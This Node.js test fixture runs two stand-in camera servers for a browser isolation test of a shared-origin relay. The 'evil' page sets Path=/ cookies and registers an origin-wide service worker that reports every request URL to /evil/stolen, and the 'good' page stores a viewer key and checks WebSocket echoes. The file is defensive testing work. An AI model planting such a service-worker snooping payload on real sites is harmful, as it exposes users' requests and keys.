// Two camera stand-ins for tests/browser/isolation_test.sh, each on its own
// port as two cameras behind their tunnels:
//
//   evil (hostile): its page tries everything one page on the relay's shared
//   origin could do against the others: a cookie with Path=/ (header and
//   script), localStorage, and a service worker for the whole origin
//   (Service-Worker-Allowed: /) that reports every request it sees to
//   /evil/stolen. It leaves what it saw in window.evilResult.
//
//   good (honest but careless): its page sets a Path=/ cookie, keeps the
//   viewer's key in localStorage, loads a script and fetches a JSON file of
//   its own, then opens ws://<relay>/good/?k=<key of its URL> as the
//   Picam360 page does, receives 4 pushed binary messages and checks the
//   echoes of 3 it sends. It leaves the outcome in window.goodResult.
//
// Every HTTP request either camera receives is written to stdout as one
// JSON line {cam, url, headers}.
//   node cameras.js EVIL_PORT GOOD_PORT
'use strict';
const http = require('http');
const { WebSocketServer } = require('ws');

const [evilPort, goodPort] = process.argv.slice(2).map(Number);

const evilPage = `<!doctype html>
<meta charset="utf-8">
<title>evil camera</title>
<script>
'use strict';
(async () => {
  const r = {};
  const tryIt = async (name, f) => {
    try { r[name] = await f(); } catch (e) { r[name] = 'blocked: ' + (e && e.name); }
  };
  await tryIt('cookie', () => { document.cookie = 'evilscript=1; Path=/'; return document.cookie; });
  await tryIt('storage', () => {
    localStorage.setItem('evil', '1');
    return JSON.stringify(Object.assign({}, localStorage));
  });
  const register = (url) => navigator.serviceWorker.register(url, { scope: '/' })
    .then((reg) => 'registered ' + reg.scope);
  await tryIt('worker', () => register('/evil/sw.js'));
  await tryIt('worker_query', () => register('/sw.js?cam=evil'));
  await tryIt('worker_active', () => Promise.race([
    navigator.serviceWorker.ready.then((reg) => 'active ' + reg.scope),
    new Promise((resolve) => setTimeout(() => resolve('none'), 3000)),
  ]));
  window.evilResult = r;
})();
</script>
`;

const evilWorker = `
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (e) => {
  fetch('/evil/stolen?u=' + encodeURIComponent(e.request.url)).catch(() => {});
});
`;

const goodPage = `<!doctype html>
<meta charset="utf-8">
<title>good camera</title>
<script src="app.js"></script>
<script>
'use strict';
const result = { app: window.goodAppLoaded === true };
const done = (more) => {
  if (window.goodResult) return;
  window.goodResult = Object.assign(result, more);
};
const key = new URLSearchParams(location.search).get('k') || '';
try { localStorage.setItem('goodkey', key); result.storage = 'kept'; } catch (e) { result.storage = 'blocked: ' + e.name; }
fetch('data.json').then((r) => r.json()).then((j) => { result.fetch = j.ok === true; })
  .catch((e) => { result.fetch = 'failed: ' + e; })
  .finally(() => {
    const base = location.pathname.replace(/[^/]*$/, '');
    const ws = new WebSocket('ws://' + location.host + base + '?k=' + encodeURIComponent(key));
    ws.binaryType = 'arraybuffer';
    let pushed = 0, echoed = 0;
    const sent = [];
    ws.onerror = () => done({ ok: false, why: 'websocket error' });
    ws.onclose = (e) => done({ ok: false, why: 'closed ' + e.code, pushed, echoed });
    ws.onmessage = (e) => {
      if (!(e.data instanceof ArrayBuffer)) return done({ ok: false, why: 'text message' });
      const bytes = new Uint8Array(e.data);
      if (pushed < 4) {
        if (bytes.length !== 4096 || bytes[0] !== pushed) return done({ ok: false, why: 'push ' + pushed });
        if (++pushed === 4) {
          for (let i = 0; i < 3; i++) { const m = new Uint8Array(500 + i).fill(i + 7); sent.push(m); ws.send(m); }
        }
        return;
      }
      const want = sent[echoed];
      if (!want || want.length !== bytes.length || bytes.some((b, j) => b !== want[j])) return done({ ok: false, why: 'echo ' + echoed });
      if (++echoed === sent.length) { done({ ok: true, pushed, echoed }); ws.close(); }
    };
  });
</script>
`;

const log = (cam, req) => console.log(JSON.stringify({ cam, url: req.url, headers: req.headers }));

const evil = http.createServer((req, res) => {
  log('evil', req);
  if (/sw\.js(\?|$)/.test(req.url)) {
    res.writeHead(200, { 'content-type': 'text/javascript', 'service-worker-allowed': '/' });
    res.end(evilWorker);
    return;
  }
  res.writeHead(200, {
    'content-type': 'text/html; charset=utf-8',
    'cache-control': 'no-store',
    'set-cookie': 'evilheader=1; Path=/',
    'referrer-policy': 'unsafe-url',
  });
  res.end(evilPage);
});

const good = http.createServer((req, res) => {
  log('good', req);
  const path = req.url.replace(/\?.*$/, '');
  if (path === '/app.js') {
    res.writeHead(200, { 'content-type': 'text/javascript', 'cache-control': 'no-store' });
    res.end('window.goodAppLoaded = true;\n');
  } else if (path === '/data.json') {
    res.writeHead(200, { 'content-type': 'application/json', 'cache-control': 'no-store' });
    res.end('{"ok":true}\n');
  } else {
    res.writeHead(200, {
      'content-type': 'text/html; charset=utf-8',
      'cache-control': 'no-store',
      'set-cookie': 'goodsession=honest-secret; Path=/',
    });
    res.end(goodPage);
  }
});
const wss = new WebSocketServer({ server: good });
wss.on('connection', (ws) => {
  for (let seq = 0; seq < 4; seq++) ws.send(Buffer.alloc(4096, seq), { binary: true });
  ws.on('message', (data, isBinary) => ws.send(data, { binary: isBinary }));
});

evil.listen(evilPort, '127.0.0.1');
good.listen(goodPort, '127.0.0.1');
process.on('SIGTERM', () => process.exit(0));
